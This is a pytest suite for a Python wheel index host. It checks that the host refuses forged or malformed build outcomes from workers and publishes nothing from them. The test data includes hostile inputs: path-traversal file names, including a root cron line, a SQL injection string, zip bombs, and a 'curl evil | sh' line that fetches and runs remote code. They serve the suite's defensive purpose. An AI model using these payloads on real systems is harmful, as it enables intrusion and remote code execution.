"""The index host believes nothing a builder says: forged outcomes, sent the way the DAG sends them.

Each test claims a build as the scheduler does (the request dict ``claim_wave`` hands out), puts files
in the build's incoming folder as a worker's SFTP upload would, and calls ``intake.receive`` with that
request and a worker's outcome dict, as the DAG's record step does. A forgery is refused: the build row
says why (the project page shows it), one log line names the package and version, and nothing reaches
the published tree.
"""

from __future__ import annotations

import hashlib
import logging

import pytest

from support.build_world import add_release, use_targets
from support.received import exact_wheel, file_entry, metadata, send, wheel_of
from wheelwright.builds import analysis
from wheelwright.builds.intake import receive
from wheelwright.builds.queue import claim_wave
from wheelwright.builds.transfer import incoming_folder

TARGET = "cp39-armv7l"
HONEST = "foo-1.0-cp39-cp39-linux_armv7l.whl"


@pytest.fixture
def request_(catalog):
    """foo 1.0 released with an sdist, claimed by the Pi target (cp39 on armv7l) as the DAG claims it."""
    use_targets(catalog)
    add_release(catalog, "foo", "1.0")
    [claimed] = claim_wave(catalog, TARGET, 1)
    return dict(claimed)


@pytest.fixture
def incoming(tmp_path):
    return tmp_path / "incoming"


@pytest.fixture
def output(tmp_path):
    return tmp_path / "www"


@pytest.fixture
def folder(incoming, request_):
    path = incoming_folder(incoming, request_["build_id"])
    path.mkdir(parents=True)
    return path


def build_row(catalog, build_id):
    return catalog.execute("SELECT status, reason FROM builds WHERE build_id = %s", (build_id,)).fetchone()


def assert_refused(catalog, caplog, request_, incoming, output, *, status="failure", says):
    """The build row carries the reason, one warning names the release, and the tree is untouched."""
    got_status, reason = build_row(catalog, request_["build_id"])
    assert got_status == status, reason
    assert says in reason, reason
    warnings = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert any("foo==1.0" in line and says in line for line in warnings), warnings
    assert catalog.execute("SELECT count(*) FROM wheels").fetchone()[0] == 0
    assert not output.exists() or [p for p in output.rglob("*") if p.is_file()] == [], "nothing published"
    assert not incoming_folder(incoming, request_["build_id"]).exists(), "what arrived is dropped"


# --- the honest case, for contrast ------------------------------------------------------------------

def test_an_honest_outcome_is_published_with_what_the_index_host_read_itself(catalog, request_, incoming,
                                                                             output, folder):
    wheel = wheel_of(folder, HONEST, requires_python=">=3.7")
    lying_sidecar = folder / (HONEST + ".metadata")
    lying_sidecar.write_bytes(metadata("foo", "1.0", requires_python=">=2.0"))
    outcome = send(incoming, request_, [wheel])
    outcome["wheels"][0].update(requires_python=">=2.0", python_tag="py2", abi_tag="none",
                                platform_tag="any", metadata=file_entry(lying_sidecar))
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert build_row(catalog, request_["build_id"]) == ("success", None)
    assert catalog.execute("SELECT filename, python_tag, abi_tag, platform_tag, requires_python, "
                           "metadata_sha256 FROM wheels").fetchall() == [
        (HONEST, "cp39", "cp39", "linux_armv7l", ">=3.7",
         hashlib.sha256(metadata("foo", "1.0", ">=3.7")).hexdigest())]
    published = output / "simple" / "foo"
    assert (published / (HONEST + ".metadata")).read_bytes() == metadata("foo", "1.0", ">=3.7"), \
        "the .metadata is the wheel's own METADATA, not the worker's file"


# --- forgeries of identity --------------------------------------------------------------------------

@pytest.mark.parametrize("key, value, says", [
    ("package", "bar", "the outcome is of the package 'bar', not 'foo'"),
    ("package", "/opt/x", "the outcome is of the package '/opt/x', not 'foo'"),
    ("version", "2.0", "the outcome is of version '2.0', not '1.0'"),
    ("target", "cp311-armv7l", "the outcome is for the target 'cp311-armv7l', not 'cp39-armv7l'"),
    ("build_id", 999, "the outcome is of build 999"),
])
def test_an_outcome_that_answers_another_build_is_refused(catalog, caplog, request_, incoming, output,
                                                          folder, key, value, says):
    outcome = send(incoming, request_, [wheel_of(folder, HONEST)], **{key: value})
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output, says=says)


def test_another_builds_row_is_never_touched_by_a_forged_id(catalog, caplog, request_, incoming, output,
                                                            folder):
    add_release(catalog, "bar", "2.0")
    [other] = claim_wave(catalog, TARGET, 1)
    outcome = send(incoming, request_, [wheel_of(folder, "bar-2.0-cp39-cp39-linux_armv7l.whl", "bar", "2.0")],
                   build_id=other["build_id"], package="bar", version="2.0")
    receive(catalog, request_, outcome, incoming, output)
    assert build_row(catalog, other["build_id"]) == ("building", None), "the other build waits for its own"
    assert_refused(catalog, caplog, request_, incoming, output, says="the outcome is of build")


# --- forged files -----------------------------------------------------------------------------------

@pytest.mark.parametrize("filename, says", [
    ("bar-1.0-cp39-cp39-linux_armv7l.whl", "it is a wheel of bar, not of foo"),      # GSAS_II_WONDER
    ("foo-2.0-cp39-cp39-linux_armv7l.whl", "it is version 2.0, not 1.0"),
    ("foo-1.0-cp39-cp39-linux_x86_64.whl", "it is for linux_x86_64, but the target builds for linux_armv7l"),
    ("foo-1.0-cp39-cp39-linux_armv7l.linux_x86_64.whl", "it is for linux_x86_64"),
    ("foo-1.0-cp311-cp311-linux_armv7l.whl", "it is for cp311, but the target builds for cp39"),
    ("foo-1.0-cp312-none-any.whl", "none of its tags"),
    ("foo-1.0-py3-none.whl", "not a valid wheel file name"),
    ("foo-1.0-99999999999-py3-none-any.whl", "its build number 99999999999 is absurd"),
])
def test_a_wheel_whose_name_does_not_fit_the_build_is_refused(catalog, caplog, request_, incoming, output,
                                                              folder, filename, says):
    outcome = send(incoming, request_, [wheel_of(folder, filename)])
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output, says=says)


def test_a_pure_wheel_serves_any_target(catalog, request_, incoming, output, folder):
    outcome = send(incoming, request_, [wheel_of(folder, "foo-1.0-py2.py3-none-any.whl")])
    receive(catalog, request_, outcome, incoming, output)
    assert build_row(catalog, request_["build_id"]) == ("success", None)
    assert (output / "simple" / "foo" / "foo-1.0-py2.py3-none-any.whl").exists()


@pytest.mark.parametrize("name", ["../../../dags/evil.py", "/opt/x/evil.whl", "a/b.whl", ".hidden.whl"])
def test_a_file_name_with_a_path_is_refused(catalog, caplog, request_, incoming, output, folder, name):
    outcome = send(incoming, request_, [wheel_of(folder, HONEST)])
    outcome["wheels"][0]["filename"] = name
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output, says="not a plain file name")
    assert not (output.parent / "dags").exists()


@pytest.mark.parametrize("members, says", [
    ({"foo-1.0.dist-info/METADATA": metadata("bar", "1.0")}, "its METADATA names 'bar', not foo"),
    ({"foo-1.0.dist-info/METADATA": metadata("foo", "2.0")}, "its METADATA says version '2.0', not 1.0"),
    ({"foo.py": b""}, "expected one .dist-info/METADATA, found 0"),
    ({"bar-1.0.dist-info/METADATA": metadata("foo", "1.0")}, "expected one .dist-info/METADATA, found 0"),
    ({"foo-1.0.dist-info/METADATA": metadata("foo", "1.0"),
      "bar-1.0.dist-info/METADATA": metadata("bar", "1.0")}, "expected one .dist-info/METADATA, found 1"),
    ({"foo-1.0.dist-info/METADATA": metadata("foo", "1.0"), "../../etc/cron.d/x": b"* * * * * root sh"},
     "a member's name holds a path"),
    ({"foo-1.0.dist-info/METADATA": metadata("foo", "1.0"), "/etc/passwd": b"x"},
     "a member's name holds a path"),
    ({"foo-1.0.dist-info/METADATA": metadata("foo", "1.0"), "foo/zeros.bin": bytes(64 << 20)},
     "a zip bomb"),
])
def test_a_wheel_whose_contents_do_not_agree_is_refused(catalog, caplog, request_, incoming, output, folder,
                                                        members, says):
    outcome = send(incoming, request_, [exact_wheel(folder, HONEST, members)])
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output, says=says)


def test_a_zip_declaring_more_than_the_cap_is_refused_unread(catalog, caplog, request_, incoming, output,
                                                             folder, monkeypatch):
    monkeypatch.setattr(analysis, "MAX_UNCOMPRESSED", 1 << 20)
    wheel = wheel_of(folder, HONEST, members={"foo-1.0.dist-info/METADATA": metadata("foo", "1.0"),
                                              "foo/a.bin": b"a" * (600 << 10), "foo/b.bin": b"b" * (600 << 10)})
    receive(catalog, request_, send(incoming, request_, [wheel]), incoming, output)
    assert_refused(catalog, caplog, request_, incoming, output, says="a zip bomb")


def test_a_file_nobody_announced_is_refused(catalog, caplog, request_, incoming, output, folder):
    outcome = send(incoming, request_, [wheel_of(folder, HONEST)])
    wheel_of(folder, "foo-1.0-py3-none-any.whl")  # arrived, but the outcome does not mention it
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output,
                   says="files it did not announce arrived: foo-1.0-py3-none-any.whl")


def test_two_wheels_with_the_same_tags_are_refused(catalog, caplog, request_, incoming, output, folder):
    twin = wheel_of(folder, "Foo-1.0-cp39-cp39-linux_armv7l.whl", extra=b"# other bytes\n")
    outcome = send(incoming, request_, [wheel_of(folder, HONEST), twin])
    receive(catalog, request_, outcome, incoming, output)
    assert_refused(catalog, caplog, request_, incoming, output, says="another wheel of the build has its tags")


def test_success_without_a_wheel_is_refused(catalog, caplog, request_, incoming, output, folder):
    receive(catalog, request_, send(incoming, request_, []), incoming, output)
    status, reason = build_row(catalog, request_["build_id"])
    assert status == "failure" and "reported success but sent no wheel" in reason


@pytest.mark.parametrize("change, says", [
    ({"wheels": "all of them"}, "its wheels are not a list"),
    ({"status": "published"}, "unknown build status 'published'"),
    ({"duration": "forever"}, "its duration is not a number"),
    ({"log": {"filename": "1.txt.gz", "sha256": "not a hash", "size": 3}},
     "the sha256 of 1.txt.gz is not a sha256"),
    ({"build_id": "1; DROP TABLE builds"}, "its build_id is not an integer"),
])
def test_a_malformed_outcome_is_refused(catalog, caplog, request_, incoming, output, folder, change, says):
    outcome = send(incoming, request_, [wheel_of(folder, HONEST)], **change)
    assert receive(catalog, request_, outcome, incoming, output) == ["foo"]
    assert_refused(catalog, caplog, request_, incoming, output, says=says)


# --- files that did not arrive as announced: retried, not published -----------------------------------

def test_a_file_announced_but_missing_is_not_published_and_the_build_is_retried(catalog, caplog, request_,
                                                                                incoming, output, folder):
    wheel = wheel_of(folder, HONEST)
    outcome = send(incoming, request_, [wheel])
    wheel.unlink()
    receive(catalog, request_, outcome, incoming, output)
    assert_refused(catalog, caplog, request_, incoming, output, status="retry",
                   says=f"{HONEST} did not arrive")


def test_a_file_whose_bytes_differ_from_the_announcement_is_not_published(catalog, caplog, request_, incoming,
                                                                          output, folder):
    wheel = wheel_of(folder, HONEST)
    outcome = send(incoming, request_, [wheel])
    wheel_of(folder, HONEST, extra=b"import os; os.system('curl evil | sh')\n")  # swapped after hashing
    receive(catalog, request_, outcome, incoming, output)
    assert_refused(catalog, caplog, request_, incoming, output, status="retry", says="the builder sent")


def test_the_project_page_shows_why_an_outcome_was_refused(catalog, request_, incoming, output, folder):
    from wheelwright.publish.writer import publish
    outcome = send(incoming, request_, [wheel_of(folder, "bar-1.0-cp39-cp39-linux_armv7l.whl")])
    receive(catalog, request_, outcome, incoming, output)
    publish(catalog, output)
    page = (output / "project" / "foo" / "index.html").read_text()
    assert "refused bar-1.0-cp39-cp39-linux_armv7l.whl: it is a wheel of bar, not of foo" in page
    assert not any((output / "simple" / "foo").glob("*.whl"))


@pytest.mark.parametrize("log_bytes, says", [
    (b"<script>not gzip</script>", "not a gzip file"),
    (None, "unpacks to more than"),
])
def test_a_log_that_is_not_a_small_gzip_file_is_not_published(catalog, caplog, request_, incoming, output,
                                                              folder, log_bytes, says):
    import gzip
    outcome = send(incoming, request_, [wheel_of(folder, HONEST)])
    log_path = folder / outcome["log"]["filename"]
    log_path.write_bytes(log_bytes if log_bytes is not None else gzip.compress(bytes(65 << 20), 1))
    outcome["log"] = file_entry(log_path)
    receive(catalog, request_, outcome, incoming, output)
    assert catalog.execute("SELECT status, log_path FROM builds").fetchone() == ("success", None)
    assert not (output / "logs").exists()
    assert any(says in r.getMessage() and "foo==1.0" in r.getMessage() for r in caplog.records)
